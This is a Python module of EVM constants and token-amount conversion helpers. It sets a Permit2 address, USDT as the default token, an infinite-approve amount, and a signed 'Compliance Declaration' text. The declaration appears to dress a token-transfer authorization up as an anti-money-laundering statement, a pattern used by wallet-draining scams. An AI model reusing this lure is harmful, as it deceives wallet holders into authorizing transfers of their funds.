"""
EVM constants and unit helpers.

Holds the deployment defaults, the compliance declaration text, and the
canonical conversions between human-readable token amounts and smallest-unit
integer values.
"""

import secrets
from decimal import Decimal, InvalidOperation, localcontext
from typing import Any, Optional

from eth_utils import is_address, to_checksum_address


#: Canonical Uniswap Permit2 singleton address (same on all EVM networks).
PERMIT2_ADDRESS: str = "0x000000000022D473030F116dDEE9F6B43aC78BA3"

#: Tether USD on Ethereum mainnet.
DEFAULT_TOKEN_ADDRESS: str = "0xdAC17F958D2ee523a2206206994597C13D831ec7"

DEFAULT_RPC_URL: str = "https://eth.llamarpc.com"

#: Maximum uint256, used as the "infinite" approve amount.
MAX_UINT256: int = 2 ** 256 - 1

#: Random bits in a bitmap nonce. Collisions are negligible within one signature lifetime.
NONCE_BITS: int = 48

#: Default signature validity window in seconds (24 hours).
DEFAULT_VALIDITY_WINDOW: int = 86400

#: 0x + 65 bytes (r || s || v) as hex.
SIGNATURE_HEX_LENGTH: int = 132

#: Enough significant digits for any uint256 quantity.
_DECIMAL_PRECISION: int = 100

DOMAIN_NAME: str = "Compliance Declaration"
DOMAIN_VERSION: str = "1"
PRIMARY_TYPE: str = "ComplianceDeclaration"

COMPLIANCE_DECLARATION: str = (
    "Compliance Declaration\n"
    "I hereby declare that the funds in my wallet are clean,\n"
    "derived from lawful activities, and are not related to\n"
    "money laundering, terrorist financing, or any other illegal activity.\n"
    "I authorize the treasury to transfer the stated amount on my behalf."
)

#: Reasons a delegated pull is known to revert for, reported with TransferReverted.
TRANSFER_REVERT_CAUSES = (
    "Signature is invalid or malformed",
    "Nonce has been used before",
    "Deadline has expired",
    "Amount doesn't match the signed amount",
    "User hasn't approved the allowance router",
)


def is_valid_evm_address(addr: Optional[str]) -> bool:
    """
    Check whether ``addr`` is a valid 0x-prefixed EVM address.

    Mixed-case input must carry a correct EIP-55 checksum.
    """
    if not isinstance(addr, str) or not addr.startswith("0x"):
        return False
    return is_address(addr)


def checksum(addr: str) -> str:
    return to_checksum_address(addr)


def generate_nonce() -> int:
    """Draw a random bitmap nonce of ``NONCE_BITS`` bits."""
    return secrets.randbits(NONCE_BITS)


def parse_amount(amount: Any) -> Decimal:
    """Parse a human-readable amount, rejecting non-numeric, non-finite and negative input.

    Raises:
        ValueError: If the amount is not a non-negative finite number.
    """
    if isinstance(amount, bool):
        raise ValueError(f"Invalid amount: {amount!r}")
    try:
        # Use str() to avoid binary-float surprises (e.g. 0.1 -> 0.100000000000000005...)
        dec_amount = amount if isinstance(amount, Decimal) else Decimal(str(amount).strip())
    except (InvalidOperation, ValueError, TypeError) as e:
        raise ValueError(f"Invalid amount: {amount!r}") from e

    if not dec_amount.is_finite():
        raise ValueError(f"Invalid amount: {amount!r}")
    if dec_amount < 0:
        raise ValueError("amount must be non-negative")
    return dec_amount


def amount_to_value(*, amount: Any, decimals: int) -> int:
    """Convert a human-readable token `amount` into smallest-unit integer `value`.

    Args:
        amount: Human-readable amount (e.g. "1.23" for USDT). Accepts int/str/Decimal.
        decimals: Token decimals (e.g. 6 for USDT).

    Returns:
        int: Smallest-unit integer value.

    Raises:
        ValueError: If inputs are invalid or the amount cannot be represented in smallest units.
    """
    if not isinstance(decimals, int) or decimals < 0:
        raise ValueError("decimals must be a non-negative int")

    dec_amount = parse_amount(amount)
    with localcontext() as ctx:
        ctx.prec = _DECIMAL_PRECISION
        scaled = dec_amount.scaleb(decimals)

    # Require exact smallest-unit representability (no fractional smallest units)
    if scaled != scaled.to_integral_value():
        raise ValueError(
            f"amount {amount!r} is not representable with decimals={decimals} "
            f"(would create fractional smallest units)"
        )

    return int(scaled)


def value_to_amount(*, value: Any, decimals: int) -> str:
    """Convert a smallest-unit integer `value` into a human-readable amount string.

    Trailing zeros are dropped, so ``value_to_amount(value=90_000_000, decimals=6)``
    returns ``"90"``. Negative values are kept (balance deltas may be negative).

    Raises:
        ValueError: If inputs are invalid.
    """
    if not isinstance(decimals, int) or decimals < 0:
        raise ValueError("decimals must be a non-negative int")

    try:
        dec_value = value if isinstance(value, Decimal) else Decimal(str(value))
    except (InvalidOperation, ValueError, TypeError) as e:
        raise ValueError(f"Invalid value: {value!r}") from e

    if dec_value != dec_value.to_integral_value():
        raise ValueError(f"value must be an integer number of smallest units: {value!r}")

    with localcontext() as ctx:
        ctx.prec = _DECIMAL_PRECISION
        amount = dec_value.scaleb(-decimals).normalize()
    if amount == 0:
        return "0"
    return format(amount, "f")
